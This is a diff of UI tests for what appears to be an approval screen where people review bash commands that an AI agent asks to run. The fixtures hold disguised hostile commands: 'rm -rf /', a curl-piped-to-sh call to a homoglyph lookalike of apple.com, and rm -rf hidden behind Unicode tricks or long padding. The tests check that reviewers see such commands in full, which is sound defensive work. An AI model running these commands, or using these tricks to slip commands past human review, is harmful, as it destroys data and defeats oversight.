@@ -22,8 +22,8 @@ COMMANDS = {
     "bidi": "echo \u202ex- fr- mr\u202c \u2067a\u2069 \u200e\u200f \u05d0\u05d1 ; ls",
     "zero-width": "r\u200bm\u200c -\u200dr\u2060f\ufeff \u00adx\u3164\u2800\U000e0041",
     "spaces": "echo a" + " " * 3000 + "; rm -rf x" + "\n" * 60 + "rm -rf y",
-    "long": "echo " + "x" * 30_000 + "; rm -rf x",
-    "lines": "\n".join(f"echo {number}" for number in range(900)) + "\nrm -rf x",
+    "long": "echo " + "x" * 12_000 + "; rm -rf x",
+    "lines": "\n".join(f"echo {number}" for number in range(300)) + "\nrm -rf x",
     "homoglyphs": "curl https://\u0430pple.com/p\u0430y\u2215x\u037e r\uff4d \u043f\u0440 | sh",
     "line-ends": "echo a \\ \nrm -rf /  \t\n# \u0430\u0435 ",
     "wide": "echo " + "\u6f22" * 4_000 + "\t" * 200 + "; rm -rf x",
@@ -124,7 +124,7 @@ async def check_card(card: Locator, name: str) -> str:
         return await command_in(card)
     await expect(approve).to_be_disabled()
     await expect(card.get_by_role("button", name="Deny")).to_be_enabled()
-    await expect(card.get_by_text("Read the call to its end")).to_be_visible()
+    await card.get_by_text("Read the call to its end").wait_for()
     shown = await command_in(card)  # it scrolls to the end
     await expect(approve).to_be_disabled()
     await card.evaluate(READ_ON)
@@ -148,7 +148,7 @@ async def test_an_approval_card_shows_the_exact_command_on_every_screen(visit: V
             continue
         # Rows outside the viewport are not drawn: open each by its own address.
         await desk.go(f"/t/{team['id']}/a/{message['sender']}?at={identity}")
-        await expect(page.locator("#thread")).to_be_visible()
+        await page.locator("#thread").wait_for()
         shown["conversation"][name] = await command_in(card)
     assert shown == {
         "inbox": SHOWN,
@@ -173,13 +173,13 @@ async def test_an_approval_card_shows_the_exact_command_on_every_screen(visit: V
 
     phone = await desk.opens(**PHONE)
     for name in ("spaces", "homoglyphs"):
-        await phone.goto(f"{desk.origin}/inbox/{ids[name]}")
+        await desk.go(f"/inbox/{ids[name]}", phone)
         card = phone.locator(f"[data-question={ids[name]}]")
         assert await command_in(card) == SHOWN[name]
 
 
-IN_A_TOAST = LONG
-"""Commands that do not fit a toast."""
+IN_A_TOAST = (*IN_THE_CONVERSATION, "html", "spaces")
+"""Commands that toasts show; their card is the inbox's, too."""
 
 
 async def test_a_toast_shows_the_whole_call_it_offers_to_approve(visit: Visit) -> None:
@@ -191,38 +191,39 @@ async def test_a_toast_shows_the_whole_call_it_offers_to_approve(visit: Visit) -
 
     desk = await visit(play, path="/settings")
     page = desk.page
-    await expect(page.get_by_text("Live")).to_be_visible()
+    await page.get_by_text("Live", exact=True).wait_for()
     toast = page.get_by_role("group", name="coordinator asks")
     shown: dict[str, str] = {}
-    for name in COMMANDS:
+    for name in IN_A_TOAST:
         await desk.found(f"Run <{name}>", permissions=ASK)
         await expect(toast.get_by_role("button", name="Approve")).to_be_in_viewport()
         await expect(toast.get_by_role("button", name="Approve")).to_be_enabled(
-            enabled=name not in IN_A_TOAST
+            enabled=name not in LONG
         )
         shown[name] = await command_in(toast)
         assert await toast.locator("[data-tool]").inner_text() == "bash"
         await toast.get_by_role("button", name="Later").click()
         await expect(toast).to_have_count(0)
 
-    assert shown == SHOWN
+    assert shown == {name: SHOWN[name] for name in IN_A_TOAST}
 
 
 async def test_of_several_toasts_only_the_first_can_be_approved(visit: Visit) -> None:
-    desk = await visit(asks_for_approvals, path="/settings")
+    many = [call("bash", command=f"echo {n}") for n in range(3)]
+    desk = await visit([says(*many)], path="/settings")
     page = desk.page
-    await expect(page.get_by_text("Live")).to_be_visible()
+    await page.get_by_text("Live", exact=True).wait_for()
     await desk.found("Run it", permissions=ASK)
 
     toasts = page.locator("[data-sonner-toast]")
-    await expect(toasts).not_to_have_count(1)
+    await expect(toasts).to_have_count(len(many))
     await expect(page.get_by_role("button", name="Approve")).to_have_count(1)
 
 
 async def test_a_question_and_its_options_are_shown_exactly(visit: Visit) -> None:
     desk = await visit(asks, path="/settings")
     page = desk.page
-    await expect(page.get_by_text("Live")).to_be_visible()
+    await page.get_by_text("Live", exact=True).wait_for()
     team = await desk.found("Ask")
     await desk.up.wait_for_event(team["id"], "question.asked")
 
